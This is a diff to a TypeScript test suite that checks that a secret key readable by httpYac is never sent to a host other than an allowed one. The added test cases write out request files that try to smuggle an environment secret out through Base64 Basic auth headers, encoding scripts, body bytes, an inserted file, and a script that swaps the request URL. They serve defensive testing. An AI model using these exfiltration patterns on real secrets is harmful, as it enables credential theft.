@@ -33,6 +33,7 @@ describe('a key that httpYac can read isn’t sent to another host', () => {
 			isAbsolute: (path: unknown) => Promise.resolve(isAbsolute(String(path))),
 			joinPath: (path: unknown, name: string) => join(String(path), name),
 			readFile: (path: unknown) => readFile(String(path), 'utf8'),
+			readBuffer: (path: unknown) => readFile(String(path)),
 			readdir: (path: unknown) => readdir(String(path)),
 			fsPath: String,
 			toString: String,
@@ -84,6 +85,20 @@ describe('a key that httpYac can read isn’t sent to another host', () => {
 	const attacks: Record<string, (url: string) => Promise<void>> = {
 		'by a file that isn’t visible': (url) => send('hidden.http', `GET ${url}/?key=${reference}\n`),
 		'in the body': (url) => send('body.http', `POST ${url}\n\nkey=${reference}\n`),
+		'as a password, in Base64': (url) => send('password.http', `GET ${url}\nAuthorization: Basic user ${reference}\n`),
+		'as a user name, in Base64': (url) => send('user.http', `GET ${url}\nAuthorization: Basic ${reference} password\n`),
+		'in a script that encodes it': (url) =>
+			send('script.http', `GET ${url}\nX: {{Buffer.from("x" + process.env.${variable}).toString("base64url")}}\n`),
+		'in bytes of the body': (url) =>
+			send('bytes.http', `{{\nexports.bytes = Buffer.from("key=" + process.env.${variable});\n}}\nPOST ${url}\n\n{{bytes}}\n`),
+		'in a script that sets the body': (url) =>
+			send('set.http', `POST ${url}\n\nx\n\n{{@request\nrequest.body = Buffer.from(process.env.${variable});\n}}\n`),
+		'in a file that is inserted into the body': async (url) => {
+			await writeFile(join(folder, 'body.txt'), `key=${reference}`);
+			await send('file.http', `POST ${url}\n\n<@ ./body.txt\n`);
+		},
+		'although a script changes the host at last': (url) =>
+			send('host.http', `GET ${allowed.origin}\nX: ${reference}\n\n{{@request\nrequest.url = "${url}";\n}}\n`),
 		'in a variable of a .env file': async (url) => {
 			await writeFile(join(folder, '.env'), `k=${reference}\n`);
 			await send('environment.http', `GET ${url}\nX: {{k}}\n`);
